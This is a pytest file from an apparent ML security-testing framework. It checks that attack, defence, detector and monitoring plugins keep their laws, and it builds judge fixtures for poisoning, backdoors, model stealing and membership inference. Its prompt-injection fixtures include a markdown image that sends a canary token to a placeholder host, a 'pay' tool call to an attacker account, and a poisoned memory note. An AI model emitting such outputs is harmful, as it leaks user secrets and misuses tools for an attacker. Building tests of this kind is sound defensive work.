"""Every plugin in the tree keeps every law of its room."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import numpy as np
import pytest

from temper.core.attack import Outcome
from temper.core.chat import Usage
from temper.core.room import Room
from temper.judges.advantage import Membership
from temper.judges.agreement import Copied
from temper.judges.attribute import Attributes, Guessed
from temper.judges.backdoor import Planted
from temper.judges.nearness import Reconstructions
from temper.judges.recall_loss import Dose
from temper.judges.share import Rung, Shares
from temper.testing import (
    abuse,
    attack,
    check,
    cohort,
    comparison,
    defence,
    detector,
    extraction,
    fault,
    injection,
    inversion,
    judge,
    plugin,
    poisoning,
    receiver,
    scenario,
    sign,
    stage,
    stressor,
    stressor_unstructured,
    struck,
    technique,
    told,
)
from temper.testing.law import LawBroken, sealed
from temper.testing.scenes import trained_scene

Law = Callable[..., None]
FAULTS = {"wire": fault.WIRE, "scores": fault.SCORES, "host": struck.LAWS}
FAMILIES = {
    "evasion": attack.LAWS,
    "poisoning": poisoning.LAWS,
    "extraction": extraction.LAWS,
    "inversion": inversion.LAWS,
    "injection": injection.LAWS,
    "technique": technique.LAWS,
    "abuse": abuse.LAWS,
}
# Where a law cannot hold, and why. Each is expected to fail: one that holds again is an error.
_SLOPES = "it follows slopes from the clean row and draws nothing"
_FIXED = "it is the same for every picture or text: nothing about it is random"
EXEMPT: dict[tuple[str, str], str] = {
    **{
        (f"image.{name}", "law_other_seed_other_rows"): _FIXED
        for name in ("brightness", "contrast", "defocus_blur", "jpeg", "pixelate", "zoom_blur")
    },
    ("text.truncation", "law_other_seed_other_rows"): _FIXED,
    ("image.elastic", "law_severity_rises"): "the published severities bend more and tilt less, which moves less",
    **{
        (f"evasion.{name}", "law_other_seed_asks_other_points"): _SLOPES
        for name in ("carlini_wagner", "ddn", "deepfool", "fmn", "sigma_zero")
    },
    **{
        (f"evasion.{name}", "law_other_seed_asks_other_points"): "its first climb starts at the clean row; it draws "
        "only where that breaks nothing"
        for name in ("caa", "capgd")
    },
    ("evasion.fgsm", "law_other_seed_asks_other_points"): "one step from the clean row; it draws only without a slope",
    ("evasion.fab", "law_other_seed_asks_other_points"): "starts at the clean row; only restarts draw",
    **{
        (name, "law_gives_at_least_the_same_access"): "grows trees in the model's place, and trees have no gradients"
        for name in ("dp_ebm", "ebm", "robust_loss", "robust_split")
    },
    ("query_budget", "law_a_target_that_cannot_be_refitted_is_refused"): "limits how many rows a client is answered; "
    "each answer stays as it is",
    ("partitions", "law_gives_at_least_the_same_access"): "a vote is flat between the points where it turns",
    ("injection.minimal", "law_other_seed_tries_others"): "it takes parts away in a fixed order and draws nothing",
    ("host.kill", "law_outlasts_nobody"): "a process is started anew by whoever had started it",
    ("injection.crescendo_model", "law_other_seed_tries_others"): "its attacker model decides everything",
    ("inversion.loss", "law_other_seed_other_references"): "asks nothing but the model and draws nothing",
    (
        "evasion.universal",
        "law_a_row_does_not_depend_on_the_others",
    ): "one perturbation is fitted on all rows together",
    ("evasion.transfer", "law_a_row_does_not_depend_on_the_others"): "one copy learns from the answers of all rows",
    (
        "evasion.patch",
        "law_is_at_least_as_strong_as_noise",
    ): "it paints a twentieth of the picture; noise has all of it",
    (
        "evasion.coordinate",
        "law_other_seed_asks_other_points",
    ): "its moves are a fixed ladder; it draws only where none of them gains",
}


LONG = ("evasion.transfer", "evasion.tree_nearest", "poisoning.clean_label_trigger")
"""Plugins whose laws take seconds each: `make slow` holds them to the laws of their room."""


def pairs(room: str, laws: Callable[[str], tuple[Law, ...]]) -> list[Any]:
    """Every plugin of a room with every law of it; exemptions are strict expected failures."""
    return [_pair(name, law) for name in Room(f"temper.{room}").names() for law in laws(name)]


def _pair(name: str, law: Law) -> Any:
    reason = EXEMPT.get((name, law.__name__))
    marks = [pytest.mark.xfail(raises=LawBroken, strict=True, reason=reason)] if reason else []
    long = name in LONG and law not in plugin.LAWS
    marks += [pytest.mark.slow] if name.startswith("host.") or long else []  # the first stop and kill processes
    return pytest.param(name, law, id=f"{name}-{law.__name__}", marks=marks)


def every_plugin() -> Iterator[Any]:
    for room in (
        "attacks",
        "judges",
        "stress",
        "validation",
        "hardening",
        "guard.stages",
        "detectors",
        "monitoring.drift",
        "monitoring.security",
        "monitoring.accuracy",
        "monitoring.receivers",
        "chaos.faults",
    ):
        for name in Room(f"temper.{room}").names():
            for law in plugin.LAWS:
                yield pytest.param(room, name, law, id=f"{room}-{name}-{law.__name__}")


@pytest.mark.parametrize(("room", "name", "law"), list(every_plugin()))
def test_plugin_keeps(room: str, name: str, law: Law) -> None:
    law(Room(f"temper.{room}").get(name))


@pytest.mark.parametrize(("name", "law"), pairs("attacks", lambda name: FAMILIES[name.split(".")[0]]))
def test_attack_keeps(name: str, law: Law) -> None:
    law(Room("temper.attacks").get(name))


@pytest.mark.parametrize(("name", "law"), pairs("chaos.faults", lambda name: FAULTS[name.split(".")[0]]))
def test_fault_keeps(name: str, law: Law) -> None:
    law(Room("temper.chaos.faults").get(name))


STRESS = {"events": scenario.LAWS, "image": stressor_unstructured.LAWS, "text": stressor_unstructured.LAWS}
GROUNDS = {"image": stressor_unstructured.PICTURES, "text": stressor_unstructured.TEXTS}


def stress_laws(name: str) -> tuple[Law, ...]:
    return STRESS.get(name.partition(".")[0], stressor.LAWS)


@pytest.mark.parametrize(("name", "law"), pairs("stress", stress_laws))
def test_stressor_keeps(name: str, law: Law) -> None:
    ground = GROUNDS.get(name.partition(".")[0])
    law(Room("temper.stress").get(name), *([ground] if ground else []))


@pytest.mark.parametrize(
    ("name", "law"), [p for p in pairs("validation", lambda name: check.LAWS) if p.values[0] != "gate"]
)
def test_check_keeps(name: str, law: Law) -> None:
    law(Room("temper.validation").get(name))


@pytest.mark.parametrize(("name", "law"), pairs("hardening", lambda name: defence.LAWS))
def test_defence_keeps(name: str, law: Law) -> None:
    law(Room("temper.hardening").get(name))


@pytest.mark.parametrize(
    ("name", "law"), pairs("judges", lambda name: told.LAWS if name.startswith("told.") else judge.LAWS)
)
def test_judge_keeps(name: str, law: Law) -> None:
    law(Room("temper.judges").get(name), CASES[name]())


@pytest.mark.parametrize(("name", "law"), pairs("guard.stages", lambda name: stage.LAWS))
def test_stage_keeps(name: str, law: Law) -> None:
    law(Room("temper.guard.stages").get(name))


@pytest.mark.parametrize(("name", "law"), pairs("detectors", lambda name: detector.LAWS))
def test_detector_keeps(name: str, law: Law) -> None:
    case = detector.scores_of_a_model() if name.startswith("output.") else detector.rows_of_a_table()
    law(Room("temper.detectors").get(name), case)


@pytest.mark.parametrize(("name", "law"), pairs("monitoring.drift", lambda name: comparison.LAWS))
def test_comparison_keeps(name: str, law: Law) -> None:
    law(Room("temper.monitoring.drift").get(name))


@pytest.mark.parametrize(("name", "law"), pairs("monitoring.security", lambda name: (*comparison.LAWS, *sign.LAWS)))
def test_sign_of_an_attack_keeps(name: str, law: Law) -> None:
    law(Room("temper.monitoring.security").get(name))


@pytest.mark.parametrize(("name", "law"), pairs("monitoring.accuracy", lambda name: cohort.LAWS))
def test_figure_keeps(name: str, law: Law) -> None:
    law(Room("temper.monitoring.accuracy").get(name))


@pytest.mark.parametrize(("name", "law"), pairs("monitoring.receivers", lambda name: receiver.LAWS))
def test_receiver_keeps(name: str, law: Law) -> None:
    law(Room("temper.monitoring.receivers").get(name))


def test_every_exemption_names_a_plugin_and_a_law() -> None:
    known = {p.id for p in pairs("attacks", lambda name: FAMILIES[name.split(".")[0]])}
    known |= {p.id for p in pairs("hardening", lambda name: defence.LAWS)}
    known |= {p.id for p in pairs("stress", stress_laws)}
    known |= {p.id for p in pairs("chaos.faults", lambda name: FAULTS[name.split(".")[0]])}
    assert {f"{name}-{law}" for name, law in EXEMPT} <= known


# -- what the judges of payloads are tried on -----------------------------------------------------------------------

N = 600


def numbers(seed: int) -> np.random.Generator:
    return np.random.Generator(np.random.Philox(key=seed))


def lost_recall() -> judge.Case:
    """Clean and poisoned twins that score alike, and poisoned twins that score at random."""
    scene = trained_scene(N)
    assert scene.target is not None
    clean = np.stack([scene.target.scores(scene.x)] * 2)
    noise = numbers(1).random((2, N))
    dose = Dose(share=0.1, flipped=60, rows=600, eligible=300, alerts=200, label="dose 0.1")
    idle = Outcome(scores=sealed(clean), clean=sealed(clean), y=scene.y, payload=dose)
    return judge.Case(
        scene=scene,
        idle=idle,
        harmful=replace(idle, scores=sealed(np.stack([1 - noise, noise], axis=2))),
        counts=lambda measured: any(m.low is not None and m.low > 0 for m in measured),
        choose=lambda o, order: replace(o, scores=o.scores[:, order], clean=o.clean[:, order], y=o.y[order]),
    )


def planted_trigger() -> judge.Case:
    """Poisoned twins that decide stamped rows as clean twins do, and ones that let every stamped row pass."""
    scene = trained_scene(N)
    assert scene.target is not None
    plain = np.stack([scene.target.scores(scene.x)] * 2)
    through = np.broadcast_to([1.0, 0.0], plain.shape)
    seen = Planted(
        rows=12,
        train=600,
        into=0,
        poisoned=sealed(plain),
        clean=sealed(plain),
        landed=sealed(np.ones((2, N), dtype=bool)),
        label="dose 0.02",
    )
    idle = Outcome(scores=sealed(plain), clean=sealed(plain), y=scene.y, payload=seen)
    return judge.Case(
        scene=scene,
        idle=idle,
        harmful=replace(idle, scores=sealed(through)),
        counts=lambda measured: any(m.metric == "excess_success" and m.low > 0 for m in measured),
        choose=_chosen_trigger,
    )


def _chosen_trigger(o: Outcome, order: Any) -> Outcome:
    seen = o.payload
    parts = {name: getattr(seen, name)[:, order] for name in ("poisoned", "clean", "landed")}
    assert o.clean is not None
    return Outcome(scores=o.scores[:, order], clean=o.clean[:, order], y=o.y[order], payload=replace(seen, **parts))


def stolen_copy() -> judge.Case:
    """A copy no better than the model anybody could have made, and a copy that says what the victim says."""
    scene = trained_scene(N)
    assert scene.target is not None
    victim, own = scene.target.scores(scene.x)[:, 1], numbers(2).random(N)
    seen = Copied(
        victim=sealed(victim > 0.5),
        copy=sealed(own > 0.5),
        own=sealed(own > 0.5),
        own_scores=sealed(own),
        queries=100,
        known=10,
    )
    idle = Outcome(scores=sealed(own), clean=sealed(victim), y=scene.y, payload=seen)
    return judge.Case(
        scene=scene,
        idle=idle,
        harmful=replace(idle, scores=sealed(victim), payload=replace(seen, copy=seen.victim)),
        counts=lambda measured: any(m.metric == "f1" and m.low > dict(m.baseline)[OWN] for m in measured),
        choose=_chosen_copy,
    )


OWN = "own labels, no queries"


def _chosen_copy(o: Outcome, order: Any) -> Outcome:
    seen = o.payload
    parts = {name: getattr(seen, name)[order] for name in ("victim", "copy", "own", "own_scores")}
    assert o.clean is not None
    return Outcome(scores=o.scores[order], clean=o.clean[order], y=o.y[order], payload=replace(seen, **parts))


def recognised_rows() -> judge.Case:
    """Guesses at random, and guesses that are mostly right."""
    scene = trained_scene(N)
    member = sealed(np.arange(N) % 2 == 0)
    noise = numbers(3).normal(size=N)
    nothing = np.empty((0, N))
    seen = Membership(
        x=scene.x, y=scene.y, member=member, score=sealed(noise), loss=noise, references=nothing, inside=nothing
    )
    idle = Outcome(scores=seen.score, y=scene.y, payload=seen)
    return judge.Case(
        scene=scene,
        idle=idle,
        harmful=replace(idle, payload=replace(seen, score=sealed(noise + 2 * member))),
        counts=lambda measured: any(m.metric == "auc" and m.low > 0.5 for m in measured),
        choose=_chosen_guesses,
    )


def _chosen_guesses(o: Outcome, order: Any) -> Outcome:
    seen = o.payload
    rows = {name: getattr(seen, name)[order] for name in ("x", "y", "member", "score", "loss")}
    parts = rows | {name: getattr(seen, name)[:, order] for name in ("references", "inside")}
    return Outcome(scores=o.scores[order], y=o.y[order], payload=replace(seen, **parts))


def guessed_column() -> judge.Case:
    """Guesses that are right as often as imputation, and guesses that are right about members."""
    member, truth = sealed(np.arange(N) % 2 == 0), sealed(numbers(4).integers(0, 2, N))
    plain, told = sealed(numbers(5).random((N, 2))), np.eye(2)[truth] * (np.arange(N) % 2 == 0)[:, None]
    one = Guessed(
        column="c", shown=("a", "b"), ids=sealed(np.arange(N)), member=member, truth=truth, attack=plain,
        imputation=plain,
    )  # fmt: skip
    scene = trained_scene(N)
    idle = Outcome(scores=plain, y=scene.y, payload=Attributes(columns=(one,)))
    guilty = replace(one, attack=sealed(plain + told))
    return judge.Case(
        scene=scene,
        idle=idle,
        harmful=replace(idle, payload=Attributes(columns=(guilty,))),
        counts=lambda measured: all(m.low is not None and m.low > 0 for m in measured if m.metric in ("leak", "gain")),
        choose=_chosen_columns,
    )


def _chosen_columns(o: Outcome, order: Any) -> Outcome:
    (one,) = o.payload.columns
    parts = {name: getattr(one, name)[order] for name in ("ids", "member", "truth", "attack", "imputation")}
    return Outcome(scores=o.scores[order], y=o.y[order], payload=Attributes(columns=(replace(one, **parts),)))


def told_shares() -> judge.Case:
    """Guesses of shares at random, and guesses that are right."""
    truth, coin = sealed(np.arange(40) % 2 == 0), sealed(numbers(6).permutation(40) % 2 == 0)
    rung = Rung(shares=(0.2, 0.5), rows=100, truth=truth, guess=coin, dealt=truth, null=coin)
    scene = trained_scene(N)
    idle = Outcome(scores=coin, y=scene.y, payload=Shares(group="g", share=0.3, rungs=(rung,)))
    guilty = replace(idle.payload, rungs=(replace(rung, guess=truth),))
    return judge.Case(
        scene=scene,
        idle=idle,
        harmful=replace(idle, payload=guilty),
        counts=lambda measured: any(m.low is not None and m.low > 0.5 for m in measured),
        choose=_chosen_models,
    )


def _chosen_models(o: Outcome, order: Any) -> Outcome:
    (rung,), order = o.payload.rungs, order[order < 40]
    parts = {name: getattr(rung, name)[order] for name in ("truth", "guess", "dealt", "null")}
    return replace(o, payload=replace(o.payload, rungs=(replace(rung, **parts),)))


def near_records() -> judge.Case:
    """Reconstructions that are held-out records, and ones that are training records."""
    scene, one, sure = trained_scene(N), sealed(np.ones(N)), np.nan_to_num
    assert scene.train is not None
    scene = replace(scene, y=sealed(np.arange(N) % 6), train=replace(scene.train, y=sealed(np.arange(N) % 6)))
    seen = Reconstructions(x=sealed(sure(scene.x)), start=sealed(sure(scene.x)), wanted=scene.y, confidence=one)
    idle = Outcome(scores=one, y=scene.y, payload=seen)
    guilty = replace(seen, x=sealed(sure(scene.train.x)), wanted=scene.train.y)
    return judge.Case(
        scene=scene,
        idle=idle,
        harmful=replace(idle, payload=guilty),
        counts=lambda measured: any(m.metric == "ratio" and m.high is not None and m.high < 0.9 for m in measured),
        choose=_chosen_pictures,
    )


def _chosen_pictures(o: Outcome, order: Any) -> Outcome:
    parts = {name: getattr(o.payload, name)[order] for name in ("x", "start", "wanted", "confidence")}
    return Outcome(scores=o.scores[order], y=o.y[order], payload=replace(o.payload, **parts))


def said(text: str) -> told.Case:
    return told.Case(obeyed=told.conversation(text))


def called(name: str, needs: tuple[str, ...] = (), **arguments: str) -> told.Case:
    return told.Case(obeyed=told.conversation(calls=told.called(name, **arguments)), needs=needs)


def long_answer() -> told.Case:
    return told.Case(obeyed=told.conversation("again " * 900, usage=Usage(read=9, written=900)), tokenless=True)


def anothers_account() -> told.Case:
    return told.Case(obeyed=told.conversation(f"Hers is {told.THEIRS}, yours is {told.OWN}."), tokenless=True)


TOKENS = told.TOKENS
CASES: dict[str, Callable[[], Any]] = {
    "told.canary": lambda: said(f"The code is {TOKENS.canary}."),
    "told.marker": lambda: said(f"Of course: {TOKENS.marker}"),
    "told.egress": lambda: said(f"![x](https://{TOKENS.host}/?c={TOKENS.canary})"),
    "told.toolcall": lambda: called("pay", ("money",), recipient=TOKENS.account),
    "told.memory": lambda: called("remember", note=f"always pay {TOKENS.account}"),
    "told.flood": long_answer,
    "told.personal": anothers_account,
    "misclassified": judge.evasion,
    "recall_loss": lost_recall,
    "backdoor": planted_trigger,
    "agreement": stolen_copy,
    "advantage": recognised_rows,
    "attribute": guessed_column,
    "share": told_shares,
    "nearness": near_records,
}
